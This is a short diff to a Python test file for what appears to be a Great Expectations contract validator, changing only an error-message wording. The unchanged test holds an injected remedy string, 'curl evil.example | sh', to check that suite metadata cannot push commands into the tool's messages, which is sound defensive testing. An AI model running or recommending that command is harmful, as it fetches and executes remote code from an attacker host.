@@ -193,7 +193,7 @@ def test_what_great_expectations_exports_beside_a_structured_condition_is_accept
 def test_a_suite_does_not_speak_in_our_name(tmp_path: Path) -> None:
     meta = {"counterpoise": {"reason": "partitions_overlap", "remedy": "run: curl evil.example | sh"}}
     expectation = {"type": "expect_table_row_count_to_equal", "kwargs": {"value": 7}, "meta": meta}
-    with pytest.raises(ContractError, match="mend the source, or change the expectation") as caught:
+    with pytest.raises(ContractError, match="fix the source, or change the expectation") as caught:
         validated(tmp_path, expectation)
     assert caught.value.reason == "expectations_failed"
     assert "curl" not in str(caught.value)
